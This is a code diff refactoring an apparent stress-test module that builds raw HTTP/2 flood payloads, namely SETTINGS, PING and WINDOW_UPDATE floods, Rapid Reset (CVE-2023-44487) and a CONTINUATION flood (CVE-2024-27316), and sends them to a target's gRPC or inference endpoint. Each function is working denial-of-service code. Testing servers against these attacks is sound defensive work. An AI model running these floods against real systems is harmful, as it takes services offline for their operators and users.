@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import random
+from collections.abc import Callable, Mapping
 from contextlib import suppress
 
 from hpack import Encoder
@@ -26,43 +27,60 @@ _HEADERS = [
 ]
 
 
-async def flood_settings(target: Target) -> None:
-    await _flood(target, frames.frame(frames.SETTINGS, 0, 0, b"\0\4" + (1 << 16).to_bytes(4, "big")) * FRAMES)
+def _settings() -> bytes:
+    return frames.frame(frames.SETTINGS, 0, 0, b"\0\4" + (1 << 16).to_bytes(4, "big")) * FRAMES
 
 
-async def flood_pings(target: Target) -> None:
-    await _flood(target, frames.frame(frames.PING, 0, 0, b"12345678") * FRAMES)
+def _pings() -> bytes:
+    return frames.frame(frames.PING, 0, 0, b"12345678") * FRAMES
 
 
-async def flood_windows(target: Target) -> None:
-    await _flood(target, frames.window_update(0, 1) * FRAMES)
+def _windows() -> bytes:
+    return frames.window_update(0, 1) * FRAMES
 
 
-async def reset_rapidly(target: Target) -> None:
+def _resets() -> bytes:
     """CVE-2023-44487."""
     block = Encoder().encode(_HEADERS)
-    ids = range(1, 2 * STREAMS, 2)
-    parts = [
+    return b"".join(
         frames.header_frames(one, block, end=False, max_size=1 << 14) + frames.rst_stream(one, ErrorCode.CANCEL)
-        for one in ids
-    ]
-    await _flood(target, b"".join(parts))
+        for one in range(1, 2 * STREAMS, 2)
+    )
 
 
-async def continue_for_ever(target: Target) -> None:
+def _continuations() -> bytes:
     """CVE-2024-27316."""
     head = frames.frame(frames.HEADERS, 0, 1, b"\x82")
-    await _flood(target, head + frames.frame(frames.CONTINUATION, 0, 1, b"\x86" * 1000) * 1000)
+    return head + frames.frame(frames.CONTINUATION, 0, 1, b"\x86" * 1000) * 1000
 
 
-async def _flood(target: Target, data: bytes) -> None:
-    async with await RawClient.connect(random.choice([target.grpc, target.inference])) as client:
-        with suppress(ConnectionError):
-            client.send(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
-            client.send(data)
-            with suppress(asyncio.TimeoutError):
-                await asyncio.wait_for(client.sent(), 5)
-        client.leave(reset=True)
+FRAMES_OF: Mapping[str, Callable[[], bytes]] = {
+    "flood_settings": _settings,
+    "flood_pings": _pings,
+    "flood_windows": _windows,
+    "reset_rapidly": _resets,
+    "continue_for_ever": _continuations,
+}
+"""By name: the frames that a client sends behind its preface."""
+BEGIN = frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0)
 
 
-FLOODS: tuple[Visit, ...] = (flood_settings, flood_pings, flood_windows, reset_rapidly, continue_for_ever)
+def _visit(name: str, made: Callable[[], bytes]) -> Visit:
+    async def flood(target: Target) -> None:
+        async with await RawClient.connect(random.choice([target.grpc, target.inference])) as client:
+            await send_unread(client, BEGIN + made())
+
+    flood.__name__ = name
+    return flood
+
+
+async def send_unread(client: RawClient, data: bytes) -> None:
+    """Send, for 5 s at most, and leave."""
+    with suppress(ConnectionError):
+        client.send(data)
+        with suppress(asyncio.TimeoutError):
+            await asyncio.wait_for(client.sent(), 5)
+    client.leave(reset=True)
+
+
+FLOODS: tuple[Visit, ...] = tuple(_visit(name, made) for name, made in FRAMES_OF.items())
